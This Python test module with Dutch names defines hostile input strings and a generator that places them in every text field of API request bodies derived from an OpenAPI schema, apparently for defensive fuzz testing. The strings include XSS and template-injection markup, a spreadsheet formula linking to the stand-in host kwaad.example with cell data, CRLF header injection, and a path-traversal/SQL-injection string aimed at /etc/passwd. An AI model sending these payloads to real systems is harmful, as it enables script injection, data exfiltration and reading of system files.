"""Texts that somebody types who means harm, and bodies with one of them in every field where anybody may type."""

from collections.abc import Iterator, Mapping
from typing import Any

from tests.toegang.bladzij import MERK
from tests.toegang.huis import Huis
from tests.toegang.invulling import lichaam, schema_van

SOM = "1343433"
"""What a template makes of the sum in a text: nobody may ever see it."""
MARKUP = f"\"'></textarea></title></script><{MERK} on{MERK}=1>{{{{7*191919}}}}${{7*191919}}{{% raise %}}<script>{MERK}"
TEKSTEN = {
    "opmaak": MARKUP,
    "adres": "javascript:alert(1)",
    "formule": '=HYPERLINK("http://kwaad.example/?"&A1;"klik")',
    "nul": "vooraf\x00erna\x1b[31m\x7f",
    "richting": "\u202e\u2066gnp.exe\u200b\ufeff",
    "half teken": "\ud800 los",
    "beeld": "🧨👩‍👩‍👧‍👦" + "e" + "\u0301" * 40,
    "lang": "a" * 5_000,
    "regels": "een\r\nSet-Cookie: mkx=1\r\n\r\n<mkx>",
    "pad": "../../../../etc/passwd%00' OR 1=1;--",
}


def lichamen(huis: Huis, methode: str, weg: str, tekst: str) -> Iterator[dict[str, Any]]:
    """Give the body of an operation with a text in one field at a time, and one with it in all."""
    goed = lichaam(huis, methode, weg)
    schema, alle = schema_van(huis, methode, weg)
    velden = list(_tekstvelden(schema, alle))
    yield from ({**goed, veld: _om(vorm, tekst)} for veld, vorm in velden)
    yield {**goed, **{veld: _om(vorm, tekst) for veld, vorm in velden}}


def _om(vorm: str, tekst: str) -> Any:
    return [tekst] if vorm == "array" else tekst


def _tekstvelden(schema: Mapping[str, Any], alle: Mapping[str, Any]) -> Iterator[tuple[str, str]]:
    """Every field of the body itself that takes a text, or a list of them: enumerations and numbers included."""
    if "$ref" in schema:
        schema = alle[schema["$ref"].rsplit("/", 1)[1]]
    for keuze in schema.get("oneOf", schema.get("anyOf", ())):
        yield from _tekstvelden(keuze, alle)
    for naam, eigen in schema.get("properties", {}).items():
        yield naam, "array" if eigen.get("type") == "array" else "string"
